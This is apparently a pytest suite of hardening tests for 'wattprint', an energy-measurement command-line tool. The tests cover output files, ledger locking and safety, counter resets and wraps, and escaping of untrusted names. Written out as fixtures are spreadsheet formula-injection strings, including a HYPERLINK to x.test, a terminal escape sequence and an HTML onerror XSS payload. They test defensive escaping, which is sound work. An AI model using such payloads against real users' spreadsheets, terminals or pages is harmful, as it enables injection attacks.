"""Hardening: output files that never replace what wattprint did not make,
write errors that fail the command, ledgers refused or read safely, text
that keeps its bytes and cannot drive a terminal."""
import json
import os
import shutil
import signal
import stat
import subprocess

import pytest

root_only = pytest.mark.skipif(os.geteuid() != 0, reason="needs root (device nodes, chown)")


@root_only
def test_json_to_a_device_writes_in_place(measured, tmp_path):
    null = tmp_path / "null"
    os.mknod(null, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    p, _ = measured.run(["--json", str(null), "--", "true"], json_out=False)
    assert p.returncode == 0, p.stderr
    assert stat.S_ISCHR(os.lstat(null).st_mode)  # still the device, not a file over it


@root_only
def test_json_to_a_full_device_says_so_and_keeps_it(measured, tmp_path):
    full = tmp_path / "full"
    os.mknod(full, stat.S_IFCHR | 0o666, os.makedev(1, 7))
    p, _ = measured.run(["--json", str(full), "--", "true"], json_out=False)
    assert p.returncode == 0  # the command's status, unchanged
    assert "cannot write the result to %s" % full in p.stderr
    assert "No space left on device" in p.stderr
    assert stat.S_ISCHR(os.lstat(full).st_mode)


@root_only
def test_another_users_link_is_refused_before_the_command(measured, tmp_path):
    target = tmp_path / "precious"
    target.write_text("keep me\n")
    link = tmp_path / "out.json"
    os.symlink(target, link)
    os.lchown(link, 65534, 65534)  # planted by nobody
    marker = tmp_path / "ran"
    p, _ = measured.run(["--json", str(link), "--", "touch", str(marker)], json_out=False)
    assert p.returncode == 125
    assert "another user's symbolic link" in p.stderr
    assert not marker.exists() and target.read_text() == "keep me\n"


def test_own_link_like_dev_stdout_is_written_through(measured, tmp_path):
    target = tmp_path / "real.json"
    link = tmp_path / "out.json"
    os.symlink(target, link)
    target.write_text("")
    p, _ = measured.run(["--json", str(link), "--", "true"], json_out=False)
    assert p.returncode == 0, p.stderr
    assert os.path.islink(link) and json.loads(target.read_text())["status"] == "completed"


def test_json_to_a_directory_is_125_before_the_command(measured, tmp_path):
    marker = tmp_path / "ran"
    p, _ = measured.run(["--json", str(tmp_path), "--", "touch", str(marker)], json_out=False)
    assert p.returncode == 125 and "Is a directory" in p.stderr
    assert not marker.exists()


def test_json_replaces_a_file_whole_and_keeps_its_mode(measured, tmp_path):
    out = tmp_path / "r.json"
    out.write_text("old")
    os.chmod(out, 0o640)
    p, _ = measured.run(["--json", str(out), "--", "true"], json_out=False)
    assert p.returncode == 0, p.stderr
    assert json.loads(out.read_text())["status"] == "completed"
    assert stat.S_IMODE(os.stat(out).st_mode) == 0o640
    assert sorted(os.listdir(tmp_path)).count("r.json") == 1
    assert not [n for n in os.listdir(tmp_path) if n.startswith(".r.json.")]  # no temp left


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full")
def test_a_full_stdout_fails_the_command(measured):
    measured.run(["--", "true"])
    with open("/dev/full", "w") as full:
        p = subprocess.run([measured.binary, "ls"], env=measured.env(), stdout=full,
                           stderr=subprocess.PIPE, text=True, timeout=60)
    assert p.returncode == 1
    assert "cannot write the output" in p.stderr


def test_export_output_checked_before_and_written_whole(measured, tmp_path):
    measured.run(["--", "true"])
    p = measured.wp("export", "--format", "csv", "--output", str(tmp_path))
    assert p.returncode == 2 and "--output" in p.stderr
    out = tmp_path / "e.csv"
    p = measured.wp("export", "--format", "csv", "--output", str(out))
    assert p.returncode == 0, p.stderr
    assert out.read_text().startswith("run_id,") or "," in out.read_text().splitlines()[0]


def test_a_one_byte_file_is_not_made_a_ledger(measured, tmp_path):
    f = tmp_path / "notes.db"
    f.write_bytes(b"x")
    p, _ = measured.run(["--ledger", str(f), "--", "true"], json_out=False)
    assert p.returncode == 0  # the measurement goes on without the ledger
    assert "not an SQLite database" in p.stderr
    assert f.read_bytes() == b"x"
    q = measured.wp("ls", "--ledger", str(f))
    assert q.returncode == 1 and "left untouched" in q.stderr


def test_a_network_filesystem_is_refused_for_writing(measured):
    env = measured.env(WATTPRINT_STATFS_TYPE="6969")  # what statfs says of NFS
    p, _ = measured.run(["--", "true"], env=env, json_out=False)
    assert p.returncode == 0
    assert "network filesystem (NFS)" in p.stderr and "local disk" in p.stderr
    assert not os.path.exists(measured.ledger)


@root_only
@pytest.mark.skipif(not shutil.which("setpriv"), reason="needs setpriv")
def test_another_users_read_only_ledger_can_be_read(measured, tmp_path):
    import tempfile
    measured.run(["--project", "ro", "--", "true"])
    # outside pytest's temporary root, which each new pytest session makes 0700
    # again (parallel suites), and with its own copy of the binary (the
    # checkout may lie in a 0700 home): only what this test sets decides
    top = tempfile.mkdtemp(prefix="wattprint-ro-")
    try:
        os.chmod(top, 0o755)  # nobody can read the file but not make its -shm
        led = os.path.join(top, "ledger.db")
        shutil.copy(measured.ledger, led)
        for suffix in ("-wal", "-shm"):
            if os.path.exists(measured.ledger + suffix):
                shutil.copy(measured.ledger + suffix, led + suffix)
        os.chmod(led, 0o644)
        binary = os.path.join(top, "wattprint")
        shutil.copy(measured.binary, binary)
        os.chmod(binary, 0o755)
        p = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
                            binary, "ls", "--json", "--ledger", led],
                           env=measured.env(), capture_output=True, text=True, timeout=60)
        assert p.returncode == 0, p.stderr
        assert json.loads(p.stdout)[0]["project"] == "ro"
    finally:
        shutil.rmtree(top)


def test_non_utf8_names_and_arguments_are_kept_escaped(measured):
    p, r = measured.run(["--project", "caf\udce9", "--", "sh", "-c", "true", "x\udcff"])
    assert p.returncode == 0, p.stderr
    assert r["project"] == "caf\\xE9"
    assert r["command"][-1] == "x\\xFF"
    assert "2 bytes of the command, its directory or its labels are not UTF-8" in p.stderr
    runs = measured.wp_json("ls")
    assert runs[0]["project"] == "caf\\xE9"


def test_control_characters_do_not_reach_the_terminal(measured):
    p, _ = measured.run(["--", "sh", "-c", "true", "\x1b[2J"])
    summary = [l for l in p.stderr.splitlines() if l.startswith("wattprint: sh -c")][0]
    assert "\x1b" not in summary and "\\x1B[2J" in summary


def test_a_writer_left_behind_does_not_keep_wattprint(measured, tmp_path):
    # The command leaves a process that appends to the progress file forever;
    # wattprint returns when the command ends (a last, bounded read).
    pidfile = tmp_path / "writer.pid"
    script = ('(while :; do echo done=1 >> "$WATTPRINT_PROGRESS"; done) >/dev/null 2>&1 & '
              'echo $! > %s; '
              'while [ ! -s "$WATTPRINT_PROGRESS" ]; do sleep 0.01; done; exit 0'  # it has begun
              % pidfile)
    try:
        p, r = measured.run(["--no-ledger", "--", "sh", "-c", script], timeout=60)
        assert p.returncode == 0, p.stderr
        assert r["work"]["done"] == 1
    finally:
        if pidfile.exists():
            try:
                os.kill(int(pidfile.read_text()), 9)
            except ProcessLookupError:
                pass


def test_a_flood_of_progress_lines_stays_bounded_on_disk(measured, tmp_path):
    # 64 MiB of lines, written while wattprint reads: the part read is given
    # back, so the file's disk use stays far below what was written. The
    # writer waits (for a state: the blocks freed) between bursts.
    script = r'''
import os, sys, time
p = os.environ["WATTPRINT_PROGRESS"]
line = b"done=%d unit=tokens\n"
most = 0
with open(p, "ab", buffering=0) as f:
    for burst in range(64):
        f.write(b"".join(line % (burst * 40000 + i) for i in range(1, 40001)))
        used = os.stat(p).st_blocks * 512
        most = max(most, used)
        deadline = time.monotonic() + 10
        while os.stat(p).st_blocks * 512 > 4 << 20:
            if time.monotonic() > deadline:  # never given back: fail now, not in an hour
                print(1 << 40)
                sys.exit(0)
            time.sleep(0.01)
print(most)
'''
    p, r = measured.run(["--no-ledger", "--interval", "0.05", "--", sys_python(), "-c", script],
                        timeout=300)
    assert p.returncode == 0, p.stderr
    written = 64 * 40000 * len(b"done=1000000 unit=tokens\n")
    assert int(p.stdout) < written / 4, (p.stdout, written)
    assert r["work"]["done"] == 64 * 40000


def sys_python():
    import sys
    return sys.executable


def test_a_locked_ledger_delays_neither_the_command_nor_the_sampler(measured, tmp_path):
    # Another process holds the ledger's write lock; the command starts and is
    # measured as usual, and the run is recorded once the lock goes.
    import sqlite3
    measured.run(["--", "true"])  # make the ledger
    holder = sqlite3.connect(measured.ledger, isolation_level=None, timeout=1)
    holder.execute("BEGIN EXCLUSIVE")
    started = tmp_path / "started"
    cmd = ["--interval", "0.05", "--checkpoint", "0.1", "--", "sh", "-c",
           "touch %s; exec \"$@\"" % started, "sh"] + measured.advance_cmd(
               "intel-rapl:0=20", steps=4, period=0.05)
    proc = subprocess.Popen([measured.binary, "run", "--json", str(tmp_path / "r.json")] + cmd,
                            env=measured.env(), stderr=subprocess.PIPE, text=True)
    for _ in range(600):  # the command starts while the lock is held
        if started.exists():
            break
        assert proc.poll() is None
        import time
        time.sleep(0.05)
    assert started.exists()
    holder.execute("ROLLBACK")
    holder.close()
    _, err = proc.communicate(timeout=120)
    assert proc.returncode == 0, err
    r = json.load(open(tmp_path / "r.json"))
    assert r["energy"]["cpu_j"] == pytest.approx(20, rel=1e-3)
    runs = measured.wp_json("ls")
    assert runs[0]["run_id"] == r["run_id"] and runs[0]["status"] == "completed"


def test_a_counter_that_goes_back_without_a_range_is_said(runner):
    import fakehw
    fakehw.make_zone(runner.sysfs, "intel-rapl:0", "package-0", energy_uj=5_000_000, range_uj=0)
    path = fakehw.zone_file(runner.sysfs, "intel-rapl:0")
    p, r = runner.run(["--", "sh", "-c", "echo 1000 > %s" % path])
    assert p.returncode == 0, p.stderr
    assert "went backwards (from 5000000 to 1000 uJ in " in p.stderr
    assert r["energy"]["cpu_j"] == 0


def test_a_counter_set_back_is_a_reset_not_a_wrap(runner):
    """A package counter with the usual 262 kJ range set back from 100 J to
    0.001 J: a wrap would be 262 kJ in one interval (far above any package's
    power), so the interval is lost and said, never counted."""
    import fakehw
    fakehw.make_zone(runner.sysfs, "intel-rapl:0", "package-0", energy_uj=100_000_000,
                     range_uj=262_143_328_850)
    path = fakehw.zone_file(runner.sysfs, "intel-rapl:0")
    p, r = runner.run(["--", "sh", "-c", "echo 1000 > %s" % path])
    assert p.returncode == 0, p.stderr
    assert "went backwards (from 100000000 to 1000 uJ in " in p.stderr
    assert "which no wrap of its range explains" in p.stderr
    assert r["energy"]["cpu_j"] == 0
    (ch,) = [c for c in r["channels"] if c["device"] == "package-0"]
    assert ch["counter_resets"] == 1 and ch["uncounted_s"] > 0 and ch["wraps"] == 0


def test_a_counter_that_wraps_at_its_range_is_still_counted(runner):
    import fakehw
    top = 262_143_328_850
    # rated 10 kW: half a joule across the top is plausible in any interval
    # longer than 25 us, and starting sh takes far longer
    fakehw.make_zone(runner.sysfs, "intel-rapl:0", "package-0", energy_uj=top - 200_000,
                     range_uj=top, max_power_uw=10_000_000_000)
    path = fakehw.zone_file(runner.sysfs, "intel-rapl:0")
    p, r = runner.run(["--", "sh", "-c", "echo 300000 > %s" % path])  # 0.5 J across the top
    assert p.returncode == 0, p.stderr
    assert r["energy"]["cpu_j"] == pytest.approx(0.5, rel=1e-6)
    (ch,) = [c for c in r["channels"] if c["device"] == "package-0"]
    assert ch["wraps"] == 1 and "counter_resets" not in ch


@root_only
@pytest.mark.skipif(not shutil.which("mount"), reason="needs mount")
def test_a_disk_full_for_a_moment_loses_no_run(measured, tmp_path):
    # The ledger lives on a 4 MiB tmpfs that the command fills (checkpoints
    # fail), then frees: the run is recorded whole, completed, at the end.
    disk = tmp_path / "disk"
    disk.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=4m", "tmpfs", str(disk)]).returncode:
        pytest.skip("cannot mount a tmpfs here")
    try:
        led = disk / "ledger.db"
        filler = disk / "filler"
        script = ("dd if=/dev/zero of=%s bs=64k 2>/dev/null; "  # until full
                  "sleep 0.5; rm -f %s; sleep 0.5" % (filler, filler))
        p, r = measured.run(["--ledger", str(led), "--checkpoint", "0.1", "--interval", "0.05",
                             "--", "sh", "-c", script])
        assert p.returncode == 0, p.stderr
        runs = measured.wp_json("ls", "--ledger", str(led))
        assert len(runs) == 1 and runs[0]["run_id"] == r["run_id"]
        assert runs[0]["status"] == "completed"
        assert runs[0]["duration_s"] == pytest.approx(r["duration_s"], rel=1e-6)
    finally:
        subprocess.run(["umount", str(disk)])


def test_json_to_a_fifo_is_written_in_place(measured, tmp_path):
    import threading
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    got = []
    reader = threading.Thread(target=lambda: got.append(open(fifo).read()))
    reader.start()  # the writer's open waits for it, as with any FIFO
    p, _ = measured.run(["--json", str(fifo), "--", "true"], json_out=False)
    reader.join(timeout=60)
    assert p.returncode == 0, p.stderr
    assert json.loads(got[0])["status"] == "completed"
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)


def test_json_link_to_a_directory_is_refused(measured, tmp_path):
    link = tmp_path / "out.json"
    os.symlink(tmp_path, link)
    p, _ = measured.run(["--json", str(link), "--", "true"], json_out=False)
    assert p.returncode == 125 and "symbolic link to a directory" in p.stderr


def _end_after_the_command(p, pidfile, limit_s=10):
    """Once the command (which wrote its pid) has exited, SIGTERM to wattprint
    until it ends; returns the seconds that took. Signals go only after the
    command is gone, so none reaches it."""
    import time
    while not (os.path.exists(pidfile) and open(pidfile).read().endswith("\n")):
        assert p.poll() is None
        time.sleep(0.01)
    pid = int(open(pidfile).read())
    while os.path.exists("/proc/%d" % pid) and p.poll() is None:
        time.sleep(0.01)
    t0 = time.monotonic()
    while p.poll() is None:
        assert time.monotonic() - t0 < limit_s, "wattprint did not answer SIGTERM"
        p.send_signal(signal.SIGTERM)
        time.sleep(0.1)
    return time.monotonic() - t0


def test_json_to_a_fifo_nobody_reads_ends_at_a_signal_and_keeps_the_run(measured, tmp_path):
    fifo = str(tmp_path / "out.fifo")
    os.mkfifo(fifo)
    pidfile = str(tmp_path / "pid")
    p = subprocess.Popen([measured.binary, "run", "--json", fifo, "--", "sh", "-c",
                          "echo $$ > %s" % pidfile], env=measured.env(),
                         stderr=subprocess.PIPE, text=True)
    took = _end_after_the_command(p, pidfile)
    err = p.stderr.read()
    assert p.returncode == 0, err  # the command's status, not the signal's
    assert "no reader had opened it when wattprint was asked to end" in err, err
    assert took < 5
    (r,) = measured.wp_json("ls")
    assert r["status"] == "completed"


def test_a_locked_ledger_ends_at_a_signal_and_keeps_the_run_for_later(measured, tmp_path):
    import sqlite3
    p, first = measured.run(["--", "true"])  # the ledger exists
    env = measured.env(XDG_DATA_HOME=str(tmp_path / "data"))
    lock = sqlite3.connect(measured.ledger, isolation_level=None)
    lock.execute("BEGIN IMMEDIATE")  # another writer holds it
    try:
        pidfile = str(tmp_path / "pid")
        p = subprocess.Popen([measured.binary, "run", "--", "sh", "-c",
                              "echo $$ > %s" % pidfile], env=env, stderr=subprocess.PIPE,
                             text=True)
        took = _end_after_the_command(p, pidfile)
        err = p.stderr.read()
    finally:
        lock.execute("ROLLBACK")
        lock.close()
    assert p.returncode == 0, err
    assert took < 5 and "cannot record" not in err
    assert err.count("asked to end while another process held its lock") == 1, err
    assert "it is kept in %s" % str(tmp_path / "data" / "wattprint" / "spool") in err
    s = subprocess.run([measured.binary, "sync"], env=env, capture_output=True, text=True)
    assert s.returncode == 0 and "1 run sent" in s.stderr, s.stderr
    runs = json.loads(subprocess.run([measured.binary, "ls", "--json"], env=env,
                                     capture_output=True, text=True).stdout)
    assert sorted(r["status"] for r in runs) == ["completed", "completed"]
    s = subprocess.run([measured.binary, "sync"], env=env, capture_output=True, text=True)
    assert "nothing was waiting" in s.stderr  # once


# Names are data: stored exactly, escaped wherever they are shown.
HOSTILE = {"project": "=HYPERLINK(\"http://x.test/?\"&A1,\"open\")",
           "experiment": "<script>\x1b]0;pwned\x07",
           "job": "-2+3", "tag": "note=@SUM(1)"}


def _hostile_run(measured):
    cmd = ["sh", "-c", "true # `</code><img src=x onerror=alert(1)>` | cell"]
    p, r = measured.run(["--project", HOSTILE["project"], "--experiment", HOSTILE["experiment"],
                         "--job", HOSTILE["job"], "--tag", HOSTILE["tag"], "--", *cmd])
    assert p.returncode == 0, p.stderr
    return r


def test_names_are_stored_exactly(measured):
    r = _hostile_run(measured)
    (back,) = measured.wp_json("ls")
    assert back["project"] == HOSTILE["project"] and back["experiment"] == HOSTILE["experiment"]
    assert back["job"] == HOSTILE["job"] and back["tags"]["note"] == "@SUM(1)"


def test_csv_exports_cannot_carry_a_formula(measured):
    import csv
    import io
    _hostile_run(measured)
    for fmt in ("csv", "codecarbon"):
        p = measured.wp("export", "--format", fmt)
        assert p.returncode == 0, p.stderr
        rows = list(csv.reader(io.StringIO(p.stdout)))
        assert len(rows) == 2
        for cell in rows[1]:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # only a plain number may start so
        cells = set(rows[1])
        assert "'" + HOSTILE["project"] in cells, rows[1]
        assert fmt == "codecarbon" or "'-2+3" in cells, rows[1]


def test_terminal_output_never_replays_escape_sequences(measured):
    _hostile_run(measured)
    for args in (["ls"], ["show", "last"], ["summary", "--by", "experiment"]):
        p = measured.wp(*args)
        assert p.returncode == 0, p.stderr
        assert "\x1b" not in p.stdout and "\x07" not in p.stdout, args
        assert "\\x1B]0;pwned\\x07" in p.stdout, args


def test_markdown_and_model_card_escape_names(measured):
    _hostile_run(measured)
    p = measured.wp("report", "--experiment", HOSTILE["experiment"], "--markdown", "-")
    assert p.returncode == 0, p.stderr
    assert "<script>" not in p.stdout and "&lt;script&gt;" in p.stdout
    assert "\x1b" not in p.stdout
    p = measured.wp("report", "last", "--markdown", "-")
    assert p.returncode == 0, p.stderr
    line = [l for l in p.stdout.splitlines() if "ran for" in l][0]
    # the command's backtick cannot close its code span: a longer fence holds it
    span = "``sh -c true # `</code><img src=x onerror=alert(1)>` | cell``"
    assert line.startswith(span), line
    assert "<img" not in p.stdout.replace(span, "")  # raw HTML only inside the code span
    p = measured.wp("report", "last", "--model-card", "-")
    assert p.returncode == 0 and "\x1b" not in p.stdout, p.stderr


def test_a_ledger_in_a_missing_directory_is_refused_before_the_command(runner, tmp_path):
    missing = tmp_path / "no" / "such" / "dir"
    p = subprocess.run([runner.binary, "run", "--ledger", str(missing / "l.db"), "--", "touch",
                        str(tmp_path / "ran")], env=runner.env(), capture_output=True, text=True)
    assert p.returncode == 125 and "the directory %s does not exist" % missing in p.stderr
    assert not (tmp_path / "ran").exists() and not (tmp_path / "no").exists()
    env = runner.env(WATTPRINT_LEDGER=str(missing / "l.db"))
    p = subprocess.run([runner.binary, "run", "--", "true"], env=env, capture_output=True,
                       text=True)
    assert p.returncode == 125 and not (tmp_path / "no").exists()


def test_the_default_ledgers_directory_is_still_made(runner, tmp_path):
    env = runner.env(XDG_DATA_HOME=str(tmp_path / "fresh"))
    env.pop("WATTPRINT_LEDGER", None)
    p = subprocess.run([runner.binary, "run", "--", "true"], env=env, capture_output=True,
                       text=True)
    assert p.returncode == 0, p.stderr
    assert (tmp_path / "fresh" / "wattprint" / "ledger.db").exists()


def test_a_wal_deleted_mid_run_is_said_and_the_runs_kept(measured, tmp_path):
    """Two runs recording at once; the ledger's -wal is deleted under them. Each
    would go on writing to the deleted file (lost when it closes): each sees
    it, says so once, reopens the ledger, and both runs are kept."""
    go = tmp_path / "go"
    env = measured.env(XDG_DATA_HOME=str(tmp_path / "data"))
    runs = [subprocess.Popen([measured.binary, "run", "--checkpoint", "0.2", "--project", name,
                              "--", "sh", "-c", 'while [ ! -e "$0" ]; do sleep 0.01; done',
                              str(go)], env=env, stderr=subprocess.PIPE, text=True)
            for name in ("a", "b")]
    while True:  # the state: both running rows are in the ledger, the WAL open
        q = measured.wp("ls", "--json")
        if q.returncode == 0 and len(json.loads(q.stdout)) == 2:
            break
        assert all(p.poll() is None for p in runs)
    os.unlink(measured.ledger + "-wal")  # a cleaning script, a person
    go.write_text("")
    for p in runs:
        err = p.stderr.read()
        assert p.wait() == 0, err
        assert err.count("write-ahead log %s-wal was deleted" % measured.ledger) == 1, err
    # a run that could not use the ledger again at once (the other still held
    # the dead WAL's index) was kept beside it and said so; sync adds it
    s = subprocess.run([measured.binary, "sync"], env=env, capture_output=True, text=True)
    assert s.returncode == 0, s.stderr
    kept = measured.wp_json("ls")
    assert sorted((r["project"], r["status"]) for r in kept) == [("a", "completed"),
                                                                 ("b", "completed")]
